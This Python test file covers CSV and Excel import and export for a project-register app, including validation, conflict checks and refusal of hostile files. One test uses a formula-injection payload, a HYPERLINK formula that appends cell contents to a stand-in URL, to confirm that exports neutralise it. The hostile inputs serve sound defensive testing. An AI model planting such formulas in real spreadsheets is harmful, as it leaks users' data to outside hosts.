"""Registers in and out: CSV and Excel round trips, the same validation as the forms, hostile files."""

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from monitor.access import audit
from monitor.access.scope import local_user
from monitor.cli import main
from monitor.errors import Conflict, Invalid
from monitor.registers import edit as registers
from monitor.registers import files as register_io

TODAY = dt.date(2025, 6, 1)
SEEDED = {"milestones": 10, "deliverables": 8, "results": 15, "risks": 5}  # rows in data/seed/mwinc


def _export(con, register, suffix):
    frame = registers.rows(con, register, "mwinc", local_user())
    return (register_io.export_xlsx if suffix == "xlsx" else register_io.export_csv)(frame, register)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
@pytest.mark.parametrize("register", sorted(SEEDED))
def test_an_exported_register_imports_back_unchanged(con, register, suffix):
    before = registers.rows(con, register, "mwinc", local_user())
    summary = register_io.import_file(
        con, register, "mwinc", _export(con, register, suffix), f"x.{suffix}", local_user("annett"), TODAY
    )
    assert summary == register_io.ImportSummary(added=0, updated=0, unchanged=SEEDED[register])
    assert registers.rows(con, register, "mwinc", local_user()).equals(before)
    assert audit.read(con, local_user()).empty


def test_a_changed_csv_cell_updates_that_row_only(con):
    text = _export(con, "milestones", "csv").decode("utf-8-sig")
    text = text.replace("Case selection and access agreements", "Cases selected")
    summary = register_io.import_file(
        con, "milestones", "mwinc", text.encode("utf-8-sig"), "m.csv", local_user("annett"), TODAY
    )
    assert (summary.added, summary.updated, summary.unchanged) == (0, 1, 9)
    log = audit.read(con, local_user())
    assert log[["action", "row_key", "field", "new_value"]].values.tolist() == [
        ["update", "M1.1", "title", "Cases selected"]
    ]


def test_excel_import_adds_rows_and_reads_excel_dates(con):
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "wp_code", "probability", "impact", "owner", "state"])
    sheet.append(["Funding cut", None, 2, 5, "Annett Arntzen", "open"])
    buffer = io.BytesIO()
    book.save(buffer)
    summary = register_io.import_file(con, "risks", "mwinc", buffer.getvalue(), "new.xlsx", local_user("annett"), TODAY)
    assert (summary.added, summary.updated) == (1, 0)
    assert "Funding cut" in registers.rows(con, "risks", "mwinc", local_user())["title"].tolist()


def test_an_import_is_all_or_nothing_and_names_every_bad_row(con):
    text = (
        "code;title;baseline_due;due_date\n"
        "M9;Fine;2024-01-01;2024-01-01\n"
        "M10;;2024-01-01;2024-01-01\n"  # row 3: no title
        "M11;Late;2024-01-01;2026-01-01\n"
    )  # row 4: after the project ends (2025-11-30)
    with pytest.raises(Invalid) as refused:
        register_io.import_file(con, "milestones", "mwinc", text.encode(), "m.csv", local_user("annett"), TODAY)
    assert [(p.row, p.column) for p in refused.value.problems] == [(3, "title"), (4, "due_date")]
    assert len(registers.rows(con, "milestones", "mwinc", local_user())) == SEEDED["milestones"]


def test_a_stale_file_is_refused(con):
    stale = _export(con, "milestones", "csv")
    registers.edit(con, "milestones", "mwinc", "M0", 1, {"comment": "edited in the app"}, local_user("annett"), TODAY)
    changed = stale.decode("utf-8-sig").replace("Kick-off with partners and cases", "Kick-off").encode("utf-8-sig")
    with pytest.raises(Conflict, match="changed by annett"):
        register_io.import_file(con, "milestones", "mwinc", changed, "m.csv", local_user("ole"), TODAY)


def test_formula_text_is_stored_verbatim_and_neutralised_in_both_exports(con):
    registers.edit(
        con,
        "risks",
        "mwinc",
        registers.rows(con, "risks", "mwinc", local_user())["risk_id"].iloc[0],
        1,
        {"mitigation": '=HYPERLINK("http://x?"&A1)'},
        local_user("annett"),
        TODAY,
    )
    assert registers.rows(con, "risks", "mwinc", local_user())["mitigation"].iloc[0] == '=HYPERLINK("http://x?"&A1)'
    assert "'=HYPERLINK" in _export(con, "risks", "csv").decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(_export(con, "risks", "xlsx"))).active
    assert sheet.cell(row=2, column=7).value == '\'=HYPERLINK("http://x?"&A1)'  # column 7: mitigation
    # and the round trip restores the text
    summary = register_io.import_file(
        con, "risks", "mwinc", _export(con, "risks", "csv"), "r.csv", local_user("annett"), TODAY
    )
    assert summary.updated == 0


@pytest.mark.parametrize(
    "data, name, reason",
    [
        ("code;title\nM9;Bjørn\n".encode("cp1252"), "m.csv", "not UTF-8"),
        ("code;title\nM9;BjÃ¸rn\n".encode(), "m.csv", "double-encoded"),
        (b"MZ\x90\x00 not a zip", "m.xlsx", "not an Excel .xlsx file"),
        (b"code;title\n", "m.txt", "expected a .csv or .xlsx file"),
        (b"x" * (register_io.MAX_FILE_BYTES + 1), "m.csv", "larger than"),
        (b"code;title;colour\nM9;x;red\n", "m.csv", "unknown column"),
    ],
)
def test_bad_files_are_refused_before_anything_is_written(shared_con, data, name, reason):
    with pytest.raises(Invalid, match=reason):
        register_io.import_file(shared_con, "milestones", "mwinc", data, name, local_user("annett"), TODAY)


def test_cli_export_and_import(db_path, tmp_path, capsys):
    target = tmp_path / "risks.xlsx"
    assert (
        main(["registers", "export", "--db", str(db_path), "--register", "risks", "--project", "mwinc", str(target)])
        == 0
    )
    assert (
        main(
            [
                "registers",
                "import",
                "--db",
                str(db_path),
                "--register",
                "risks",
                "--project",
                "mwinc",
                "--user",
                "annett",
                str(target),
            ]
        )
        == 0
    )
    assert "0 added, 0 updated, 5 unchanged" in capsys.readouterr().out
    bad = tmp_path / "bad.csv"
    bad.write_text("title;probability;impact;state\nx;9;1;open\n", encoding="utf-8")
    assert main(["registers", "import", "--db", str(db_path), "--register", "risks", str(bad)]) == 2
    assert "row 2, column probability" in capsys.readouterr().err
